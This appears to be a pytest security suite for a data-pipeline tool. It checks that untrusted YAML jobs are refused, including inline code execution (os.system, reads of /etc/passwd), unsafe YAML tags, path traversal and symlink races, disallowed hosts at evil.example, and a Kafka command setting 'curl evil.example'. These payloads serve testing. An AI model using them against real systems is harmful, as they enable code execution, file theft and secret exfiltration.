"""Attacks in the job of a stranger: each is refused before anything runs, with its place."""

from __future__ import annotations

import os
import pickle
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tocsin.compiler.checker import check_text
from tocsin.compiler.diagnostics import JobError
from tocsin.compiler.lower import lower
from tocsin.engines.beam.yaml_adapter import step_of
from tocsin.foundation.failure import Failure
from tocsin.foundation.sandbox import (
    BROKERS_VARIABLE,
    FOLDERS_VARIABLE,
    HOSTS_VARIABLE,
    SECRETS_VARIABLE,
    VARIABLES_VARIABLE,
)
from tocsin.parts.registry import find
from tocsin.parts.tables import read_table

ROOT = Path(__file__).parents[2]
READ = "{type: ReadFiles, config: {files: readings.parquet, event_time: at}}"
KAFKA = "topic: t, schema: air.avsc, event_time: observed_at"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A stranger's folder, where `check` runs; outside is a file that the job must not read."""
    folder = tmp_path / "stranger"
    folder.mkdir()
    shutil.copy(ROOT / "tests/errors/readings.parquet", folder)
    shutil.copy(ROOT / "tests/errors/readings.parquet", tmp_path / "private.parquet")
    shutil.copy(ROOT / "schemas/air_reading.avsc", folder / "air.avsc")
    shutil.copy(ROOT / "schemas/air_reading.avsc", tmp_path / "private.avsc")
    (folder / "link.parquet").symlink_to(tmp_path / "private.parquet")
    (folder / "deep" / "down").mkdir(parents=True)
    (folder / "linked").symlink_to(tmp_path)
    monkeypatch.chdir(folder)
    for name in (
        BROKERS_VARIABLE,
        FOLDERS_VARIABLE,
        HOSTS_VARIABLE,
        SECRETS_VARIABLE,
        VARIABLES_VARIABLE,
    ):
        monkeypatch.delenv(name, raising=False)
    return folder


def refusal(home: Path, *steps: str, top: str = "", trusted: bool = False) -> str:
    """The sentences of the refusal."""
    listed = "\n".join(f"    - {step}" for step in steps)
    text = f"pipeline:\n  type: chain\n  transforms:\n{listed}\n{top}"
    with pytest.raises(JobError) as wrong:
        check_text(str(home / "job.yaml"), text, trusted=trusted)
    return "\n".join(str(problem) for problem in wrong.value.problems)


CODE = {
    "a provider package": (
        "",
        "providers: [{type: pythonPackage, config: {packages: [evil]}, transforms: {X: evil.X}}]",
    ),
    "a provider of inline YAML": (
        "",
        "providers: [{type: yaml, transforms: {X: {body: {type: PyTransform}}}}]",
    ),
    "an include": ("", "providers: [{include: 'http://evil.example/p.yaml'}]"),
    "PyTransform": ("{type: PyTransform, config: {constructor: os.system, args: [id]}}", ""),
    "inline Python": (
        (
            "{type: MapToFields, config: {language: python, "
            "fields: {x: 'open(\"/etc/passwd\").read()'}}}"
        ),
        "",
    ),
    "inline JavaScript": (
        "{type: MapToFields, config: {language: javascript, fields: {x: 'process.env'}}}",
        "",
    ),
    "a callable": ("{type: MapToFields, config: {fields: {x: {callable: 'lambda row: 1'}}}}", ""),
    "a file of Python": (
        "{type: MapToFields, config: {fields: {x: {path: evil.py, name: f}}}}",
        "",
    ),
    "an SQL engine": ("{type: Sql, config: {query: SELECT 1}}", ""),
    "a Java transform": ("{type: JavaTransform, config: {}}", ""),
    "a reader of Beam's own": ("{type: ReadFromText, config: {path: /etc/passwd}}", ""),
    "a writer of Beam's own": ("{type: WriteToJson, config: {path: /tmp/out}}", ""),
    "a module by its path": ("{type: ../../evil, config: {}}", ""),
    "a module by its dotted name": ("{type: os.system, config: {}}", ""),
}


@pytest.mark.parametrize("trick", CODE)
def test_code_is_refused(trick: str, home: Path) -> None:
    step, top = CODE[trick]
    steps = [READ, "{type: ToRows}", step] if step else [READ]
    refused = refusal(home, *steps, top=top)
    assert "brings code into a job" in refused or "no step type" in refused


def test_options_of_beam_are_refused(home: Path) -> None:
    for option in (
        "setup_file: evil.py",
        "extra_packages: [evil]",
        "environment_config: 'evil:1'",
        "job_endpoint: evil:1",
    ):
        assert "option" in refusal(home, READ, top=f"options: {{{option}}}")


def test_jinja_is_text(home: Path) -> None:
    refused = refusal(
        home, "{type: ReadFiles, config: {files: '{{ 7 * 7 }}.parquet', event_time: at}}"
    )
    assert "{{ 7 * 7 }}.parquet" in refused


def test_tags_of_yaml_make_no_objects(home: Path) -> None:
    refused = refusal(home, "{type: !!python/object/apply:os.system [id]}")
    assert "job.yaml:" in refused


FILES = {
    "an absolute path": "{type: ReadFiles, config: {files: PRIVATE.parquet, event_time: at}}",
    "a path upwards": "{type: ReadFiles, config: {files: ../private.parquet, event_time: at}}",
    "a link": "{type: ReadFiles, config: {files: link.parquet, event_time: at}}",
    "a path upwards behind a glob": (
        "{type: ReadFiles, config: {files: 'deep/*/../../../private.parquet', event_time: at}}"
    ),
    "a path upwards behind a question mark": (
        "{type: ReadFiles, config: {files: '?eep/../../privat[e].parquet', event_time: at}}"
    ),
    "a link behind a glob": "{type: ReadFiles, config: {files: 'l*.parquet', event_time: at}}",
    "a folder that is a link": (
        "{type: ReadFiles, config: {files: 'linked/private.parquet', event_time: at}}"
    ),
    "a folder that is a link behind a glob": (
        "{type: ReadFiles, config: {files: '*/private.parquet', event_time: at}}"
    ),
    "a schema": (
        "{type: ReadTelemetry, config: "
        "{topic: t, schema: ../private.avsc, event_time: observed_at}}"
    ),
}


@pytest.mark.parametrize("trick", FILES)
def test_files_outside_of_the_job_folders_are_refused(
    trick: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    step = FILES[trick].replace("PRIVATE", str(home.parent / "private"))
    assert "not in the job's folders" in refusal(home, step)
    monkeypatch.setenv(FOLDERS_VARIABLE, str(home.parent))
    text = f"pipeline:\n  type: chain\n  transforms:\n    - {step}\n"
    assert check_text(str(home / "job.yaml"), text)[0].steps


def test_a_file_that_becomes_a_link_after_the_check_is_not_opened(home: Path) -> None:
    text = f"pipeline:\n  type: chain\n  transforms:\n    - {READ}\n"
    job, _ = check_text(str(home / "job.yaml"), text)
    source = pickle.loads(pickle.dumps(job.steps[0].part))
    (split,) = source.splits(live=False)
    (home / "readings.parquet").unlink()
    (home / "readings.parquet").symlink_to(home.parent / "private.parquet")
    with pytest.raises(Failure, match="not in the job's folders"):
        next(iter(source.read(split, 0)))


@given(st.lists(st.sampled_from(["*", "..", "deep", "down", "linked", "?", "**", "."]), max_size=6))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_pattern_of_pieces_finds_a_file_outside(home: Path, pieces: list[str]) -> None:
    pattern = "/".join([*pieces, "private.parquet"])
    step = f"{{type: ReadFiles, config: {{files: '{pattern}', event_time: at}}}}"
    refused = refusal(home, step)
    assert "not in the job's folders" in refused or "no file matches" in refused


def test_a_job_in_the_root_of_a_disk_has_no_folder(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir("/")
    step = f"{{type: ReadFiles, config: {{files: {home}/readings.parquet, event_time: at}}}}"
    text = f"pipeline:\n  transforms:\n    - {step}\n"
    with pytest.raises(JobError, match="not in the job's folders"):
        check_text("/job.yaml", text)


def read(setting: str) -> str:
    """A source with one more setting."""
    return f"{{type: ReadTelemetry, config: {{{KAFKA}, {setting}}}}}"


def registry(url: str, settings: str = "") -> str:
    """A source with a registry."""
    return (
        "{type: ReadTelemetry, config: {topic: t, schema: air.avsc, event_time: observed_at, "
        f"registry: {{url: '{url}', settings: {{{settings}}}}}}}}}"
    )


NOT_ALLOWED = "the host 'evil.example' is not allowed here"
ADDRESSES = {
    "a broker": (read("kafka: {brokers: 'evil.example:9092'}"), NOT_ALLOWED),
    "a second broker": (
        read("kafka: {brokers: 'kafka.example:9092,evil.example:9092'}"),
        NOT_ALLOWED,
    ),
    "this machine": (
        read("kafka: {brokers: 'localhost:6379'}"),
        "the host 'localhost' is not allowed here",
    ),
    "this machine as a number": (read("kafka: {brokers: '2130706433:80'}"), "no IPv4 address"),
    "a broker's protocol": (read("kafka: {brokers: 'PLAINTEXT://evil.example:9'}"), "no port"),
    "a registry": (registry("http://evil.example"), NOT_ALLOWED),
    "a second registry": (registry("http://kafka.example,http://evil.example"), NOT_ALLOWED),
    "a registry on this machine": (
        registry("http://[::ffff:127.0.0.1]:80"),
        "the host '::ffff:7f00:1' is not allowed here",
    ),
    "a registry behind a user name": (
        registry("http://kafka.example@evil.example"),
        "may have no user name",
    ),
    "a registry behind a backslash": (registry("http://evil.example\\.kafka.example"), "plain"),
    "a registry's parameters": (registry("http://kafka.example/?x=1"), "may have no parameters"),
    "a registry's fragment": (registry("http://evil.example#.kafka.example"), "no parameters"),
    "a registry of a test": (registry("mock://evil.example"), "may begin with http://"),
}


@pytest.mark.parametrize("trick", ADDRESSES)
def test_addresses_are_refused_unless_the_operator_allows_their_host(
    trick: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, "kafka.example")
    step, sentence = ADDRESSES[trick]
    assert sentence in refusal(home, step)


def test_the_operator_allows_hosts_by_pattern(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, "*.city.example")
    step = read("kafka: {brokers: 'kafka.city.example:9092'}")
    assert check_text(str(home / "job.yaml"), f"pipeline:\n  transforms:\n    - {step}\n")[0].steps


SETTINGS = {
    "a library": ("plugin.library.paths: /tmp/evil.so", "may not set 'plugin.library.paths'"),
    "a command": (
        "sasl.kerberos.kinit.cmd: 'curl evil.example'",
        "may not set 'sasl.kerberos.kinit.cmd'",
    ),
    "other brokers": ("bootstrap.servers: 'evil.example:9092'", "may not set 'bootstrap.servers'"),
    "a token's address": (
        "sasl.oauthbearer.token.endpoint.url: 'http://evil.example'",
        "may not set",
    ),
    "no check of certificates": ("enable.ssl.certificate.verification: false", "may not set"),
    "a password in the open": ("sasl.password: hunter2", "is a secret and must not stand in a job"),
    "a file where no secret is": ("client.id: 'file:/etc/passwd'", "is no secret"),
    "a variable where no secret is": ("client.id: 'env:HOME'", "is no secret"),
}


@pytest.mark.parametrize("trick", SETTINGS)
def test_unknown_settings_of_kafka_are_refused(trick: str, home: Path) -> None:
    setting, sentence = SETTINGS[trick]
    refused = refusal(
        home,
        read(f"kafka: {{brokers: 'localhost:1', settings: {{{setting}}}}}"),
    )
    assert sentence in refused
    assert "hunter2" not in refused


def test_a_secret_of_the_environment_is_refused_in_a_job(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KAFKA_PASSWORD", "hunter2")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
    for name in ("KAFKA_PASSWORD", "AWS_SECRET_ACCESS_KEY"):
        refused = refusal(
            home,
            f"{{type: ReadTelemetry, config: {{topic: 'x-${{{name}}}', "
            "schema: air.avsc, event_time: observed_at}}",
        )
        assert "looks like a secret" in refused
        assert "hunter2" not in refused


PASSWORD = "kafka: {settings: {sasl.password: env:KAFKA_PASSWORD}}"
REFERENCES = {
    "a variable": (read(PASSWORD), "env:KAFKA_PASSWORD"),
    "a user name": (
        read("kafka: {settings: {sasl.username: env:AWS_SECRET_ACCESS_KEY}}"),
        "env:AWS_SECRET_ACCESS_KEY",
    ),
    "a file": (
        registry("http://registry.example", "basic.auth.user.info: 'file:/etc/shadow'"),
        "file:/etc/shadow",
    ),
}


@pytest.mark.parametrize("trick", REFERENCES)
def test_a_reference_is_refused_unless_the_operator_lists_it(
    trick: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(BROKERS_VARIABLE, "kafka.example:9092")
    monkeypatch.setenv(HOSTS_VARIABLE, "*.example")
    step, reference = REFERENCES[trick]
    refused = refusal(home, step)
    assert f"a job may not refer to the secret {reference}; the operator adds it to" in refused
    (home / "tocsin.toml").write_text(f'[secrets]\n"{reference}" = ["other.example"]\n')
    assert f"the secret {reference} may not be sent to the host" in refusal(home, step)
    monkeypatch.setenv(SECRETS_VARIABLE, f"env:OTHER@a;{reference}@kafka.example,registry.*")
    assert check_text(str(home / "job.yaml"), f"pipeline:\n  transforms:\n    - {step}\n")[0].steps


def test_a_secret_goes_only_to_the_brokers_that_the_operator_names(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, "*.example")
    monkeypatch.setenv(SECRETS_VARIABLE, "env:KAFKA_PASSWORD@kafka.example")
    both = PASSWORD.replace("{settings", "{brokers: 'kafka.example,evil.example', settings")
    assert "may not be sent to the host 'evil.example'" in refusal(home, read(both))
    assert "may not be sent to the host 'localhost'" in refusal(home, read(PASSWORD))


def test_the_folder_of_a_job_lists_no_secret(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (home / "tocsin.toml").write_text(
        '[project]\nvariables = ["PATH"]\n[secrets]\n"env:KAFKA_PASSWORD" = ["*"]\n'
    )
    monkeypatch.chdir(home.parent)
    assert "may not refer to the secret" in refusal(home, read(PASSWORD))
    assert "may not use the environment variable PATH" in refusal(home, read("start: '${PATH}'"))


def test_a_certificate_is_a_file_of_the_job_or_a_listed_one(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (home.parent / "ca.pem").write_text("certificate")
    for name in (f"{home.parent}/ca.pem", "linked/ca.pem", "../ca.pem"):
        setting = read(f"kafka: {{settings: {{ssl.ca.location: {name}}}}}")
        monkeypatch.delenv(SECRETS_VARIABLE, raising=False)
        assert "is not in the job's folders" in refusal(home, setting)
        monkeypatch.setenv(SECRETS_VARIABLE, f"file:{home.parent}/ca.pem@kafka.example")
        assert check_text("job.yaml", f"pipeline:\n  transforms:\n    - {setting}\n")[0].steps


def test_a_certificate_that_becomes_a_link_after_the_check_is_not_opened(home: Path) -> None:
    (home / "ca.pem").write_text("certificate")
    step = read("kafka: {settings: {ssl.ca.location: ca.pem}}")
    job, _ = check_text("job.yaml", f"pipeline:\n  transforms:\n    - {step}\n")
    kafka = pickle.loads(pickle.dumps(job.steps[0].part)).kafka
    assert kafka.client_settings()["ssl.ca.location"] == str(home / "ca.pem")
    (home / "ca.pem").unlink()
    (home / "ca.pem").symlink_to(home.parent / "private.avsc")
    with pytest.raises(Failure, match=r"'ssl.ca.location': .* is not in the job's folders"):
        kafka.client_settings()


@pytest.mark.parametrize("name", ["DATABASE_URL", "SSH_KEY", "HOME"])
def test_a_variable_is_refused_unless_the_operator_names_it(
    name: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, "2026-01-31T00:00Z")
    step = read(f"start: '${{{name}:-earliest}}'")
    refused = refusal(home, step)
    assert f"a job may not use the environment variable {name}; the operator adds it" in refused
    monkeypatch.setenv(VARIABLES_VARIABLE, f"CITY,{name}")
    assert check_text("job.yaml", f"pipeline:\n  transforms:\n    - {step}\n")[0].steps
    monkeypatch.setenv(SECRETS_VARIABLE, f"env:{name}@kafka.example")
    assert "looks like a secret" in refusal(home, step)
    monkeypatch.delenv(name)
    monkeypatch.delenv(VARIABLES_VARIABLE)
    monkeypatch.delenv(SECRETS_VARIABLE)
    assert check_text("job.yaml", f"pipeline:\n  transforms:\n    - {step}\n")[0].steps


def test_variables_of_tocsin_are_open_but_those_with_secrets(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOCSIN_START", "latest")
    step = read("start: '${TOCSIN_START}'")
    assert check_text("job.yaml", f"pipeline:\n  transforms:\n    - {step}\n")[0].steps
    monkeypatch.setenv("TOCSIN_START", "http://me:hunter2@flink")
    monkeypatch.setenv(SECRETS_VARIABLE, "env:A@b")
    for name in ("TOCSIN_START", SECRETS_VARIABLE):
        refused = refusal(home, read(f"start: '${{{name}}}'"))
        assert "looks like a secret" in refused
        assert "hunter2" not in refused


def test_a_lake_stays_in_the_folders_of_the_operator(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(FOLDERS_VARIABLE, str(home / "lakes"))
    for lake in (f"{home.parent}/elsewhere", "../elsewhere", f"file://{home.parent}/elsewhere"):
        for step in (
            f"{{type: WriteToLake, config: {{lake: '{lake}', dataset: a}}}}",
            f"{{type: ReadArchive, config: {{lake: '{lake}', dataset: a, event_time: t}}}}",
        ):
            assert "is not in the job's folders" in refusal(home, READ, step)


def test_a_dataset_is_a_name(home: Path) -> None:
    for dataset in ("../up", "/etc", "a/b", "..", "a\\0b"):
        assert (
            "dataset"
            in refusal(
                home, READ, f'{{type: WriteToLake, config: {{lake: lake, dataset: "{dataset}"}}}}'
            ).lower()
        )


def test_the_parts_that_run_keep_to_the_sandbox(home: Path) -> None:
    text = f"pipeline:\n  type: chain\n  transforms:\n    - {READ}\n"
    for trusted in (False, True):
        job, _ = check_text(str(home / "job.yaml"), text, trusted=trusted)
        (lowered,) = lower(job)["pipeline"]["transforms"]
        source = step_of("ReadFiles", lowered["config"])._part
        assert (source._folders is None) == trusted


def test_a_table_that_becomes_a_link_after_the_check_is_not_opened(home: Path) -> None:
    (home / "table.csv").write_text("sensor,site\na,1\n")
    (home.parent / "private.csv").write_text("sensor,site\na,hunter2\n")
    part = find("enrich", "enrich").model_validate(
        {"table": "table.csv", "by": ["sensor_id"], "add": ["site"]},
        context={"sandboxed": True, "folders": [str(home)]},
    )
    (home / "table.csv").unlink()
    (home / "table.csv").symlink_to(home.parent / "private.csv")
    with pytest.raises(OSError, match="not in the job's folders"):
        read_table(pickle.loads(pickle.dumps(part)).table)


def test_a_pipe_is_no_file(home: Path) -> None:
    os.mkfifo(home / "pipe.parquet")
    step = "{type: ReadFiles, config: {files: pipe.parquet, event_time: at}}"
    assert "'pipe.parquet' is no file on a disk" in refusal(home, step)


def test_the_lake_of_an_archive_is_judged(home: Path) -> None:
    step = read("archive: {lake: 's3://localhost/x', dataset: raw}")
    assert "is in no store that the operator allowed (none is allowed)" in refusal(home, step)


def test_a_lake_that_becomes_a_link_after_the_check_is_not_written(home: Path) -> None:
    step = "{type: WriteToLake, config: {lake: lake, dataset: a}}"
    text = f"pipeline:\n  type: chain\n  transforms:\n    - {READ}\n    - {step}\n"
    job, _ = check_text(str(home / "job.yaml"), text)
    sink = pickle.loads(pickle.dumps(job.steps[1].part))
    (home / "lake").symlink_to(home.parent)
    with pytest.raises(Failure, match="is not in the job's folders"):
        sink.check_target()
    assert not (home.parent / "a").exists()
